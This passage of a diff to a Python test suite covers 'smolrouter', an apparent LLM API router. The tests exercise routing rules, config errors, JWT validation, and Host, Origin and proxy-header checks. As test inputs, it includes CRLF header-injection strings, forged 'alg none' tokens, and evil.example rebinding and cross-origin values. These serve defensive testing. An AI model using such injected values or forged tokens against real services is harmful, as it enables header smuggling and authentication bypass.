-    assert latest(gpu()).path == "/v1/chat/completions"
-    assert latest(gpu()).model == "llama3"
-
-
 @each_ollama
 @whole_or_lines
 def test_native_server_fails_over_to_another_kind(sdk: Sdk, stream: bool) -> None:
@@ -8601,111 +5542,1885 @@ def test_native_management_to_the_byte(method: str, path: str, body: Any) -> Non
 
 
 # ======================================================================================
-# Log
+# 9  Routing
 # ======================================================================================
-# What is kept of each request and what is said about it; then everything that can happen to
-# a database. Each router has a folder of its own that outlives it.
+
+ROUTING_TABLE = """
+{"servers": {"one": "http://one:1", "two": {"url": "http://two:2/v1", "api": "ollama"}},
+ "aliases": {"pair": {"instances": ["one/a", {"server": "two", "model": "b"}]},
+             "turns": {"strategy": "round_robin", "instances": ["one/a/b"]}},
+ "routes": [
+  {"match": {"model": "/^(.*)-1.5b$/"}, "route": {"upstream": "one", "model": "\\\\1-tiny"}},
+  {"match": {"source_host": ["10.0.1.0/24", "10.0.2.5-10.0.2.9"], "model": "gpt-4"},
+   "route": {"upstream": "two", "model": "claude"}},
+  {"match": {"source_host": "fd00::/8"}, "route": {"alias": "pair"}},
+  {"match": {"model": "old"}, "route": {"model": "new"}}]}
+"""
+HOME = "127.0.0.1"
+DECISIONS = [
+    # asked, source host, route, what is sent where
+    ("pair", HOME, "alias pair", ["one/a", "two/b"]),
+    ("mapped-pair", HOME, "alias pair", ["one/a", "two/b"]),
+    ("turns", HOME, "alias turns", ["one/a/b"]),
+    ("qwen-1.5b", HOME, "routes[0]", ["one/qwen-tiny"]),
+    ("gpt-4", "10.0.1.77", "routes[1]", ["two/claude"]),
+    ("gpt-4", "::ffff:10.0.2.5", "routes[1]", ["two/claude"]),
+    ("gpt-4", "10.0.2.10", "default", ["default/gpt-4"]),
+    ("any", "fd00::7", "routes[2]", ["one/a", "two/b"]),
+    ("old", HOME, "routes[3]", ["default/new"]),
+    ("gpt-3", HOME, "default", ["default/llama"]),
+    ("gpt-9-x", HOME, "default", ["default/lab-x"]),
+    ("m [two]", HOME, "pin two", ["two/m"]),
+    ("m [nobody]", HOME, "default", ["default/m [nobody]"]),
+    ("x" * 300 + "-1.5b", HOME, "default", ["default/" + "x" * 300 + "-1.5b"]),
+]
 
 
-class Kept:
-    """A folder with a log, and the routers that one after another write it."""
-
-    def __init__(self, folder: pathlib.Path, **settings: Any) -> None:
-        self.file = folder / "log.db"
-        self.blobs = folder / "blobs"
-        self.settings = {
-            "DEFAULT_UPSTREAM": stage().url, "DB_PATH": self.file,
-            "BLOB_STORAGE_PATH": self.blobs, "WEBUI_SECURITY": "NONE", **settings,
-        }  # fmt: skip
-
-    def router(self, **more: Any) -> Router:
-        return Router({**self.settings, **more})
-
-    def ask(self, sql: str, *values: Any) -> list[Any]:
-        """Rows of the database; none while there is no such table."""
-        with contextlib.closing(sqlite3.connect(f"file:{self.file}?mode=ro", uri=True)) as db:
-            return db.execute(sql, values).fetchall()
-
-    def written(self, count: int) -> int:
-        """How many finished rows there are, once there are `count`."""
-
-        def look() -> int:
-            with contextlib.suppress(sqlite3.Error):
-                return self.ask("SELECT count(*) FROM requests WHERE failed IS NOT NULL")[0][0]
-            return 0
-
-        return until(lambda: (n := look()) >= count and n) or look()
-
-    def octets(self) -> bytes:
-        """Everything that is on the disk, and what its packed parts hold."""
-        data = b"".join(f.read_bytes() for f in self.file.parent.rglob("*") if f.is_file())
-        packed = [blob.read_bytes() for blob in self.blobs.rglob("*.z")]
-        packed += [row[0] for row in self.ask("SELECT data FROM details")]
-        packed = [part for part in packed if not part[:1].isdigit()]
-        return data + b"".join(map(zlib.decompress, packed))
+def routing(text: str = ROUTING_TABLE, **settings: str) -> Any:
+    mapping = '{"/gpt-9-(.*)/": "lab-\\\\1", "gpt-3": "llama", "mapped-pair": "pair"}'
+    chosen = smolrouter.Settings.from_mapping({"MODEL_MAP": mapping, **settings})
+    return smolrouter.parse_routes(text, "routes.yaml", {"KEY": "k"}, chosen)
 
 
-@pytest.fixture
-def kept(tmp_path: pathlib.Path) -> Kept:
-    return Kept(tmp_path)
+@pytest.mark.parametrize("asked, host, route, instances", DECISIONS)
+def test_decision(asked: str, host: str, route: str, instances: list[str]) -> None:
+    decision = smolrouter.resolve(routing(), asked, host)
+    assert decision.route == route
+    assert [str(instance) for instance in decision.instances] == instances
+    assert decision.trail and decision.trail[-1].matched
 
 
-def document(router: Router, path: str) -> Any:
-    """The document that a path answers."""
-    got = request(router.port, "GET", path)
-    assert got.status == 200, got.content
-    return json.loads(got.content)
+def route(match: Any, target: Any) -> str:
+    """Return a routing file of one route."""
+    return json.dumps({"routes": [{"match": match, "route": target}]})
 
 
-def row_of(router: Router, key: str) -> dict[str, Any]:
-    """The row of the newest finished request for a model, once it is written."""
+X = {"model": "x"}
+HOP = '{"servers": {"a": {"url": "http://a", "headers": {"Content-Length": "1"}}}}'
+BAD_TABLES = {
+    "framing field": (HOP, "servers.a.headers.Content-Length"),
+    "unknown key": ('{"servers": {}, "extra": 1}', "extra"),
+    "not a mapping": ("[]", "the file"),
+    "bad regex": (route({"model": "/(/"}, X), "routes[0].match.model"),
+    "bad group": (route({"model": "/a/"}, {"model": "\\1"}), "routes[0].route.model"),
+    "empty alias": ('{"aliases": {"a": {"instances": []}}}', "aliases.a.instances"),
+    "unknown server": ('{"aliases": {"a": {"instances": ["nobody/m"]}}}', "nobody"),
+    "unknown alias": (route({}, {"alias": "x"}), "routes[0].route.alias"),
+    "bad strategy": ('{"aliases": {"a": {"strategy": "luck", "instances": ["b/c"]}}}', "luck"),
+    "bad address": (route({"source_host": "10.0.0.256"}, X), "source_host"),
+    "backward range": (route({"source_host": "10.0.0.9-10.0.0.1"}, X), "source_host"),
+    "empty route": (route({}, {}), "routes[0].route"),
+    "unset variable": ('{"servers": {"a": "http://${NOBODY}"}}', "NOBODY"),
+    "duplicate": ('{"servers": {"a": "http://a", "a": "http://b"}}', "twice"),
+    "bad URL": ('{"servers": {"a": "ftp://a"}}', "servers.a.url"),
+    "endpoint": ('{"servers": {"a": "http://a/x/v1/embeddings/"}}', "leave that out"),
+    "bad api": ('{"servers": {"a": {"url": "http://a", "api": "x"}}}', "servers.a.api"),
+    "number for text": (route({"model": 7}, X), "routes[0].match.model"),
+    "broken JSON": ('{"servers": ', "JSON"),
+}
 
-    def look() -> Any:
-        rows = document(router, f"/api/logs?model={key}&limit=1")
-        return [row for row in rows if not row["is_inflight"]]
 
-    return until(look)[0]
-
-
-def detail_of(router: Router, key: str) -> dict[str, Any]:
-    """Everything about the newest finished request for a model."""
-    return document(router, f"/api/request/{row_of(router, key)['id']}")
+@pytest.mark.parametrize("text, named", BAD_TABLES.values(), ids=BAD_TABLES.keys())
+def test_bad_table_is_refused_with_its_place(text: str, named: str) -> None:
+    with pytest.raises(smolrouter.ConfigError) as caught:
+        routing(text)
+    assert named in str(caught.value) and "routes.yaml" in str(caught.value)
+    assert "\n" not in str(caught.value)
 
 
-@functools.cache
-def logging() -> Router:
-    """A router with a log that many tests share; models are told apart by their names."""
+def test_yaml_in_flow_style_and_marks() -> None:
+    assert routing('\ufeff{"servers": {"a": "http://a"}}').servers
+    assert not routing(" \n").servers
+    pytest.importorskip("yaml")
+    assert routing("{servers: {a: 'http://a:1'}}").servers
+
+
+def test_long_names_stall_no_pattern() -> None:
+    table_ = routing(route({"model": "/.*-1.5b/"}, {"upstream": "http://x"}))
+    for name in ("a" * 200_000, "-1.5" * 50_000, "a" * 200_000 + "-1.5b"):
+        assert smolrouter.resolve(table_, name, "10.0.0.1").route == "default"
+
+
+def test_two_servers_may_have_one_url() -> None:
+    text = '{"servers": {"a": "http://h:1", "b": {"url": "http://h:1", "api_key": "k"}}}'
+    names = [server.name for server in routing(text).all_servers()]
+    assert {"a", "b"} <= set(names)
+    assert smolrouter.resolve(routing(text), "m [b]", HOME).route == "pin b"
+
+
+def test_request_without_a_model_follows_rules_on_its_source() -> None:
+    decision = smolrouter.resolve(routing(), "", "fd00::7")
+    assert decision.route == "routes[2]"
+    assert not any("longer" in step.why for step in decision.trail)
+    assert smolrouter.resolve(routing(), "", HOME).route == "default"
+
+
+def test_yaml_says_the_line() -> None:
+    pytest.importorskip("yaml")
+    text = "servers:\n  a: http://a\nroutes:\n  - match: {}\n    route: {upstrem: a}\n"
+    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:5: routes\[0\]"):
+        routing(text)
+    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:3: .*twice"):
+        routing("servers:\n  a: http://a\n  a: http://b\n")
+
+
+# --- names that break no head ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("server", [
+    {"headers": {"X-A": "b\r\nEvil: 1"}}, {"headers": {"X-A\r\nEvil": "1"}},
+    {"headers": {"X A": "1"}}, {"headers": {"": "1"}}, {"headers": {"X-A": "b\0"}},
+    {"headers": {"Content-Length": "1"}}, {"headers": {"transfer-encoding": "chunked"}},
+    {"headers": {"Connection": "close"}}, {"api_key": "a\r\nEvil: 1"}, {"api_key": "a\n"},
+])  # fmt: skip
+def test_the_routing_file_cannot_break_a_head(server: dict[str, Any]) -> None:
+    text = json.dumps({"servers": {"a": {"url": "http://a", **server}}})
+    with pytest.raises(smolrouter.ConfigError, match=r"servers\.a"):
+        routing(text)
+
+
+def test_names_of_the_routing_file_break_no_head() -> None:
+    odd = "two\r\nEvil: 1\nlines \u00e9\0"
     routes = {
-        "servers": {"off": "http://127.0.0.1:9", "box": stage().url},
-        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
-        "routes": [
-            {"match": {"model": "asked-for"}, "route": {"upstream": "box", "model": "sent"}},
-            {"match": {"model": "friend"}, "route": {"alias": "either"}}],
-    }  # fmt: skip
-    return router_for({"DEFAULT_UPSTREAM": stage().url, "WEBUI_SECURITY": "NONE"}, routes)
+        "servers": {odd: stage().url},
+        "aliases": {odd: {"instances": [{"server": odd, "model": "tiny\r\nEvil: 1"}]}},
+    }
+    got = ask(router_for({"DEFAULT_UPSTREAM": stage().url}, routes), odd)
+    assert (got.status, got.get("Evil")) == (200, None)
+    assert "Evil: 1" in got.get("X-SmolRouter-Model")
 
 
-ROW_NAMES = re.findall(
-    r"\w+",
-    """id request_id timestamp source_ip method path service_type
-    original_model mapped_model upstream_url route duration_ms ttft_ms request_size response_size
-    status_code error_message prompt_tokens completion_tokens total_tokens tokens_estimated
-    attempts stream completed_at is_inflight""",
+NAMES = [
+    "a\r\nEvil: 1", "a\nEvil: 2", "a\0b", "\u6a21\u578b", "\xe9", "\ud800", "x" * 999,
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
+@pytest.mark.parametrize("model", NAMES, ids=lambda name: ascii(name[:9]))
+def test_a_model_name_breaks_neither_a_head_nor_the_log(model: str, path: str) -> None:
+    name = f"{model}{path}"
+    got = request(shared().port, "POST", path, {**ASKS[path], "model": name})
+    assert (got.status, got.get("Evil")) == (200, None)
+    assert len([r for r in stage().requests if r.model == name]) == 1
+    assert request(shared().port, "GET", "/v1/fine").status == 200
+    assert "\nEvil" not in shared().stderr.replace("\r", "\n")
+
+
+def test_no_name_is_long_enough_to_fill_the_log() -> None:
+    for path, form in ((CHAT, False), ("/api/chat", False), ("/v1/audio/transcriptions", True)):
+        name = "long" * 4097
+        kind, body = "application/json", dumps({**ASKS.get(path, {}), "model": name})
+        if form:
+            kind = "multipart/form-data; boundary=b"
+            body = f'--b\r\nContent-Disposition: form-data; name="model"\r\n\r\n{name}\r\n--b--'
+            body = body.encode()
+        got = request(shared().port, "POST", path, body, [("Content-Type", kind)])
+        assert got.status == 400 and b"16384 are allowed" in got.content
+        assert not stage().heard(name)
+
+
+# --- what hypothesis finds ------------------------------------------------------------
+
+
+@fuzz(
+    lambda st: {
+        "table": st.fixed_dictionaries(
+            {},
+            optional={
+                key: json_values(st)
+                | st.lists(
+                    st.fixed_dictionaries(
+                        {}, optional={name: json_values(st) for name in ("match", "route")}
+                    ),
+                    max_size=2,
+                )
+                | st.dictionaries(
+                    st.text(max_size=3),
+                    st.fixed_dictionaries(
+                        {},
+                        optional={
+                            name: json_values(st)
+                            for name in ("url", "instances", "strategy", "api")
+                        },
+                    ),
+                    max_size=2,
+                )
+                for key in ("servers", "aliases", "routes")
+            },
+        )
+    }
 )
-RUNNING_NAMES = re.findall(
-    r"\w+",
-    """id request_id timestamp source_ip path service_type phase
-    original_model mapped_model sent_model upstream_url elapsed_ms tokens bytes""",
-)
-MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
+def test_fuzz_routing_file(table: dict) -> None:
+    """A routing file is a table, or its error says where."""
+    with contextlib.suppress(smolrouter.ConfigError):
+        found = routing(json.dumps(table))
+        assert smolrouter.resolve(found, "a", "10.0.0.1").instances
 
 
-def made_store(folder: pathlib.Path) -> Any:
-    """The store of a log in a folder, as the router's thread has it."""
-    settings = Kept(folder).settings
-    return smolrouter.Store(
-        smolrouter.Settings.from_mapping({name: str(value) for name, value in settings.items()})
+@fuzz(lambda st: {"text": st.text(max_size=60)})
+def test_fuzz_routing_text(text: str) -> None:
+    for given in (text, "{" + text, "servers:\n  " + text):
+        with contextlib.suppress(smolrouter.ConfigError):
+            routing(given)
+
+
+# ======================================================================================
+# 10  Access
+# ======================================================================================
+# Who may do what: tokens, policies, Host and Origin; a real browser, and proxies in front.
+
+# --- on values ------------------------------------------------------------------------
+
+
+def jwt(head: dict, claims: dict, key: str = SECRET_KEY) -> str:
+    """Make a token by other means than the module's own."""
+    parts = [base64.urlsafe_b64encode(dumps(p)).rstrip(b"=") for p in (head, claims)]
+    signed = b".".join(parts)
+    mac = hmac.new(key.encode(), signed, hashlib.sha256).digest()
+    return (signed + b"." + base64.urlsafe_b64encode(mac).rstrip(b"=")).decode()
+
+
+HS256 = {"alg": "HS256", "typ": "JWT"}
+TOKENS = {
+    "good": (jwt(HS256, {"exp": 2000}), True),
+    "good with nbf": (jwt(HS256, {"exp": 2000, "nbf": 900}), True),
+    "expired": (jwt(HS256, {"exp": 1000}), False),
+    "not yet": (jwt(HS256, {"exp": 2000, "nbf": 1001}), False),
+    "no exp": (jwt(HS256, {"sub": "x"}), False),
+    "exp a string": (jwt(HS256, {"exp": "2000"}), False),
+    "exp true": (jwt(HS256, {"exp": True}), False),
+    "alg none": (jwt({"alg": "none"}, {"exp": 2000}), False),
+    "alg HS512": (jwt({"alg": "HS512"}, {"exp": 2000}), False),
+    "crit": (jwt({**HS256, "crit": ["x"]}, {"exp": 2000}), False),
+    "other key": (jwt(HS256, {"exp": 2000}, "x" * 40), False),
+    "no signature": (jwt(HS256, {"exp": 2000}).rpartition(".")[0] + ".", False),
+    "two parts": ("a.b", False),
+    "not base64": ("!.!.!", False),
+    "empty": ("", False),
+}
+
+
+@pytest.mark.parametrize("token, valid", TOKENS.values(), ids=TOKENS.keys())
+def test_token(token: str, valid: bool) -> None:
+    assert (smolrouter.check_token(token, SECRET_KEY, 1000.0) is None) == valid
+
+
+def test_minted_token_is_valid_until_it_expires() -> None:
+    token = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
+    assert smolrouter.check_token(token, SECRET_KEY, 1000.0) is None
+    assert smolrouter.check_token(token, SECRET_KEY, 1000.0 + 86401)
+
+
+HOSTS = [
+    ("localhost:1234", True), ("127.0.0.1", True), ("[::1]:1234", True), ("box", True),
+    ("box.lan:80", True), ("router.home.arpa", True), ("extra.example", True),
+    ("evil.example", False), ("127.0.0.1.evil.example", False), ("", False),
+    ("localhost.evil.example:1234", False),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("host, good", HOSTS)
+def test_web_host(host: str, good: bool) -> None:
+    assert smolrouter.is_web_host(host, ("extra.example",), "machine") == good
+
+
+BOX, EVIL_PAGE, LINK = "mybox.lan:1234", "https://evil.example", {"Sec-Fetch-Dest": "document"}
+CROSS = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
+SHELL = {"User-Agent": "Mozilla/5.0 (Windows NT 10.0) PowerShell/7.4.0"}
+BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept-Language": "en"}
+PAGES = [
+    # Host, fields, ALLOWED_ORIGINS, status at the Web UI, status at the model API
+    (BOX, {}, "loopback", 200, 200),
+    (BOX, {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
+    (BOX, {"Origin": f"https://{BOX}"}, "loopback", 200, 200),
+    (BOX.upper(), {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
+    ("extra.example", {"Origin": "https://extra.example"}, "loopback", 200, 200),
+    ("[::1]:1234", {"Origin": "http://[::1]:1234"}, "", 200, 200),
+    ("mybox.lan:443", {"Origin": "https://mybox.lan"}, "loopback", 200, 200),
+    ("mybox.lan:80", {"Origin": "http://mybox.lan"}, "loopback", 200, 200),
+    ("mybox.lan:443", {"Origin": "http://mybox.lan"}, "loopback", 403, 403),
+    (BOX, {"Origin": "http://mybox.lan"}, "loopback", 403, 403),  # another port
+    (BOX, {"Origin": "ftp://mybox.lan:1234"}, "loopback", 403, 403),
+    (BOX, {"Origin": f"http://{BOX}.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": EVIL_PAGE}, "loopback", 403, 403),
+    (BOX, {"Origin": "null"}, "loopback", 403, 403),
+    (BOX, {"Origin": ""}, "loopback", 403, 403),
+    (BOX, {"Origin": "null"}, "null", 200, 200),
+    (BOX, {"Origin": EVIL_PAGE}, "*", 403, 200),
+    (BOX, {"Origin": EVIL_PAGE}, "https://evil.example", 200, 200),
+    (BOX, {"Origin": EVIL_PAGE + ":8443"}, "https://evil.example", 403, 403),
+    (BOX, {"Origin": "http://localhost:3000"}, "loopback", 403, 200),
+    (BOX, {"Origin": "http://127.8.8.8"}, "loopback", 403, 200),
+    (BOX, {"Origin": "http://localhost.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": "http://127.0.0.1.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": "file://localhost"}, "loopback", 403, 403),
+    (BOX, CROSS, "loopback", 403, 403),
+    (BOX, {**CROSS, "Sec-Fetch-Dest": "iframe"}, "loopback", 403, 403),
+    (BOX, {**CROSS, **LINK}, "loopback", 200, 200),
+    (BOX, {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"}, "loopback", 403, 403),
+    (BOX, {"Sec-Fetch-Site": "same-origin"}, "loopback", 200, 200),
+    (BOX, {"Sec-Fetch-Site": "none"}, "loopback", 200, 200),
+    # names that may have been rebound to this address
+    ("evil.example:1234", {}, "loopback", 421, 200),
+    ("evil.example:1234", BROWSER, "loopback", 421, 421),
+    ("models.example.com", SHELL, "loopback", 421, 200),
+    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "loopback", 421, 403),
+    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "*", 421, 200),
+    ("evil.example", {"Sec-Fetch-Site": "same-origin"}, "*", 421, 421),
+    ("mybox.lan.evil.example", BROWSER, "loopback", 421, 421),
+    ("192.168.1.5.evil.example", BROWSER, "loopback", 421, 421),
+]
+
+
+@pytest.mark.parametrize("host, given, origins, webui, api", PAGES)
+def test_page_from_elsewhere(
+    host: str, given: dict[str, str], origins: str, webui: int, api: int
+) -> None:
+    fields = smolrouter.Fields([(n.lower(), n, v) for n, v in given.items()])
+    settings = smolrouter.Settings.from_mapping(
+        {"ALLOWED_HOSTS": "extra.example", "ALLOWED_ORIGINS": origins}
     )
+    for guarded, wanted in ((True, webui), (False, api)):
+        try:
+            extra = smolrouter.check_browser(fields, host, guarded, settings, "machine")
+            status = 200
+            origin = given.get("Origin")
+            assert dict(extra).get("Access-Control-Allow-Origin") == origin
+        except smolrouter.RouterError as error:
+            status = error.status
+        assert status == wanted, guarded
+
+
+COOKIES = [
+    ("smolrouter_token=x", None),
+    ("a=b; smolrouter_token=x; c=d", "a=b; c=d"),
+    ("smolrouter_token =x", None),
+    ("a=smolrouter_token=x", "a=smolrouter_token=x"),
+    ("xsmolrouter_token=x", "xsmolrouter_token=x"),
+]
+
+
+@pytest.mark.parametrize("sent, kept", COOKIES)
+def test_token_cookie_stays_here(sent: str, kept: str | None) -> None:
+    fields = smolrouter.Fields([("cookie", "Cookie", sent), ("a", "A", "b")])
+    left = smolrouter.without_tokens(fields, SECRET_KEY, 1000.0)
+    assert (left.get("cookie"), left.get("a")) == (kept, "b")
+
+
+FORWARDED = [
+    # peer, X-Forwarded-For, trusted, who asks
+    ("10.0.0.1", "1.2.3.4", "none", "10.0.0.1"),
+    ("10.0.0.1", "1.2.3.4", "10.0.0.1", "1.2.3.4"),
+    ("10.0.0.1", "6.6.6.6, 1.2.3.4", "10.0.0.0/8", "1.2.3.4"),
+    ("10.0.0.1", "1.2.3.4, 10.0.0.7", "10.0.0.0/8", "1.2.3.4"),
+    ("10.0.0.1", "junk", "10.0.0.0/8", "10.0.0.1"),
+    ("10.0.0.1", "", "10.0.0.0/8", "10.0.0.1"),
+]
+
+
+@pytest.mark.parametrize("peer, field, trusted, source", FORWARDED)
+def test_source_host(peer: str, field: str, trusted: str, source: str) -> None:
+    fields = smolrouter.Fields([("x-forwarded-for", "X-Forwarded-For", field)])
+    networks = smolrouter.parse_networks(trusted)
+    assert smolrouter.client_address(peer, fields, networks) == source
+
+
+@fuzz(
+    lambda st: {"at": st.integers(0, 400), "by": st.binary(max_size=3), "size": st.integers(0, 3)}
+)
+def test_fuzz_tokens(at: int, by: bytes, size: int) -> None:
+    """Whatever is changed in a token, it is not valid any more."""
+    good = smolrouter.encode_token(SECRET_KEY, "me", 1000.0, 1.0)
+    bad = good[:at] + by.decode("latin-1") + good[at + size :]
+    assert (smolrouter.check_token(bad, SECRET_KEY, 1000.0) is None) == (bad == good)
+
+
+@fuzz(lambda st: {"doc": json_values(st), "claims": json_values(st)})
+def test_fuzz_claims(doc: Any, claims: Any) -> None:
+    """Signed nonsense is no token."""
+    for head, body in ((doc, claims), (HS256, claims), (HS256, {"exp": claims, "nbf": doc})):
+        with contextlib.suppress(UnicodeEncodeError):
+            assert smolrouter.check_token(jwt(head, body), SECRET_KEY, float("inf"))
+
+
+@fuzz(lambda st: {"text": st.text(max_size=30)})
+def test_fuzz_small_readers(text: str) -> None:
+    """Each reader of one value returns it or raises its own error."""
+    for item in dataclasses.fields(smolrouter.Settings):
+        with contextlib.suppress(ValueError):
+            item.metadata["parse"](text)
+    latin = text.encode("utf-8", "replace").decode("latin-1")
+    lines = [
+        (n, n, latin)
+        for n in ("origin", "cookie", "authorization", "x-forwarded-for", "host", "connection")
+    ]
+    fields = smolrouter.Fields(lines)
+    smolrouter.parse_retry_after(text, 0.0)
+    smolrouter.find_tokens(fields, True)
+    smolrouter.without_tokens(fields, SECRET_KEY, 0.0)
+    networks = smolrouter.parse_networks("0.0.0.0/0 ::/0")
+    assert smolrouter.is_address(smolrouter.client_address("10.0.0.1", fields, networks))
+    with contextlib.suppress(smolrouter.RouterError):
+        smolrouter.check_browser(fields, latin, True, smolrouter.Settings(), "machine")
+    value = smolrouter.encode_field_value(text)
+    assert value.isascii() and value.isprintable()
+
+
+# --- policies and tokens --------------------------------------------------------------
+
+PAST, AHEAD = 1_000_000_000, 32_503_680_000
+BY_PROXY = ("X-Forwarded-For", "203.0.113.9")
+CARRIED: dict[str, str] = {  # what a client may send for a token, by what is wrong with it
+    "none": "",
+    "bad": jwt(HS256, {"exp": AHEAD}, "another key, as long as it should be"),
+    "expired": jwt(HS256, {"exp": PAST}, SECRET),
+    "wrong alg": jwt({"alg": "none"}, {"exp": AHEAD}, SECRET),
+    "good": jwt(HS256, {"exp": AHEAD}, SECRET),
+}
+GOOD = CARRIED["good"]
+POLICIES = [(name, secret) for name in smolrouter.POLICIES for secret in (SECRET, "")]
+POLICIES.remove(("ALWAYS_AUTH", ""))  # the router does not start
+
+
+def guarded_by(policy: str, secret: str = SECRET, **more: Any) -> Router:
+    """A router with this policy for everything."""
+    settings = {"WEBUI_SECURITY": policy, "API_SECURITY": policy, **more}
+    if secret:
+        settings["JWT_SECRET"] = secret
+    return router_for({"DEFAULT_UPSTREAM": stage().url, "LOG_LEVEL": "ERROR", **settings})
+
+
+def example_of(endpoint: Any) -> tuple[str, str]:
+    """A method and a path that this endpoint serves."""
+    path = endpoint.paths.split()[0].replace("**", "access").replace("*", "access")
+    method = "HEAD" if path == "/api/events" else endpoint.methods.split()[0]  # GET has no end
+    return method, path
+
+
+NUMBERS = itertools.count(2)
+
+
+def another_address() -> str:
+    """A loopback address that has not failed yet."""
+    return "127.77.{}.{}".format(*divmod(next(NUMBERS), 250))
+
+
+def statuses(router: Router, *asked: tuple[str, str, Pairs]) -> list[int]:
+    """The statuses of requests on one connection, from an address of its own."""
+    found, source = [], another_address()
+    with contextlib.ExitStack() as stack:
+        sock = None
+        for method, path, fields in asked:
+            sock = sock or stack.enter_context(
+                socket.create_connection(("127.0.0.1", router.port), PATIENCE, (source, 0))
+            )
+            sized = [("Content-Length", "2")] if method == "POST" else []
+            lines = [f"{n}: {v}\r\n" for n, v in (("Host", "router"), *sized, *fields)]
+            top = f"{method} {path} HTTP/1.1\r\n{''.join(lines)}\r\n".encode()
+            sock.sendall(top + b"{}" * bool(sized))
+            data = receive_until(sock, b"\r\n\r\n")
+            found.append(int(data.split()[1]))
+            if b"\r\nTransfer-Encoding: chunked\r\n" in data:
+                sock = None  # it may have no end
+                continue
+            rest = 0 if method == "HEAD" else parse(data, True).get("Content-Length") or 0
+            rest = int(rest) - len(data.partition(b"\r\n\r\n")[2])
+            while rest > 0:
+                rest -= len(sock.recv(rest))
+    return found
+
+
+def wanted_status(guard: str, policy: str, secret: str, token: str, proxied: bool) -> int:
+    """What the table of the policies says; 200 stands for being let in."""
+    open_to_all = guard not in ("api_security", "webui_security") or policy == "NONE"
+    if open_to_all or (policy == "AUTH_WHEN_PROXIED" and not proxied):
+        return 200
+    if not secret:
+        return 403
+    return 200 if token == "good" else 401
+
+
+@pytest.mark.parametrize("policy, secret", POLICIES)
+def test_every_endpoint_in_every_mode(policy: str, secret: str) -> None:
+    router = guarded_by(policy, secret)
+    for endpoint in smolrouter.ENDPOINTS:
+        method, path = example_of(endpoint)
+        for proxied in (False, True):
+            asked = [
+                (method, path, [*[("Authorization", f"Bearer {text}")] * bool(text),
+                                *[BY_PROXY] * proxied])
+                for text in CARRIED.values()
+            ]  # fmt: skip
+            before = sum(r.target == path for r in stage().requests)
+            got = statuses(router, *asked)
+            got = [s if s in (401, 403) else 200 for s in got]
+            rest = (endpoint.guard, policy, secret)
+            assert got == [wanted_status(*rest, name, proxied) for name in CARRIED], path
+            if path == "/v1/access":  # what was refused went nowhere
+                after = sum(r.target == path for r in stage().requests)
+                assert after - before == got.count(200)
+
+
+@pytest.mark.parametrize("name", [
+    "Forwarded", "Via", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Whatever",
+    "X-Real-IP", "X-Original-Forwarded-For", "CF-Connecting-IP", "CF-Ray", "True-Client-IP",
+])  # fmt: skip
+def test_every_proxy_field_counts(name: str) -> None:
+    router = guarded_by("AUTH_WHEN_PROXIED")
+    ways: list[Pairs] = [
+        [(name, "1.1 a")], [(name.upper(), "")], [("Connection", f"close, {name.lower()}")],
+        [("Connection", name), (name, "1.1 a")],
+    ]  # fmt: skip
+    for fields in ways:
+        assert statuses(router, ("GET", "/v1/models", fields)) == [401]
+    assert statuses(router, ("GET", "/v1/models", [("X-Forward", "x")])) == [200]
+
+
+CARRIERS = [
+    # fields, status at the Web UI, status at the model API
+    ([("X-SmolRouter-Token", GOOD)], 200, 200),
+    ([("authorization", f"bearer  {GOOD} ")], 200, 200),
+    ([("Authorization", "Bearer sk-other"), ("X-SmolRouter-Token", GOOD)], 200, 200),
+    ([("Authorization", f"Basic {GOOD}")], 401, 401),
+    ([("Authorization", GOOD)], 401, 401),
+    ([("Cookie", f"smolrouter_token={GOOD}")], 200, 401),
+    ([("Cookie", f"a=b; smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-origin")], 200, 200),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://router")], 200, 200),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://localhost:9")], 403, 401),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-site")], 403, 403),
+    ([("Cookie", f"token={GOOD}")], 401, 401),
+    ([("Cookie", f"smolrouter_token={CARRIED['expired']}")], 401, 401),
+]
+
+
+@pytest.mark.parametrize("fields, webui, api", CARRIERS)
+def test_where_a_token_may_stand(fields: Pairs, webui: int, api: int) -> None:
+    asked = [("GET", "/api/inflight", fields), ("GET", "/v1/models", fields)]
+    assert statuses(guarded_by("ALWAYS_AUTH"), *asked) == [webui, api]
+
+
+def test_a_token_never_travels_upstream() -> None:
+    for fields in (
+        [("Authorization", f"Bearer {GOOD}")],
+        [("X-SmolRouter-Token", GOOD), ("Authorization", "Bearer sk-theirs")],
+        [("Authorization", f"Bearer {GOOD}"), ("Cookie", f"a=b; smolrouter_token={GOOD}")],
+    ):
+        router = guarded_by("ALWAYS_AUTH")
+        assert statuses(router, ("GET", "/v1/no-token-upstream", fields)) == [200]
+        heard = stage().heard("/v1/no-token-upstream")[-1]
+        assert GOOD.encode() not in heard.raw_head
+        theirs = [v for n, v in fields if "sk-" in v]
+        assert heard.get_all("Authorization") == theirs
+
+
+def test_a_valid_token_passes_where_others_have_failed() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.0/8")
+
+    def asked(kind: str, source: str) -> tuple[str, str, Pairs]:
+        token = [("X-SmolRouter-Token", CARRIED[kind])] if kind != "none" else []
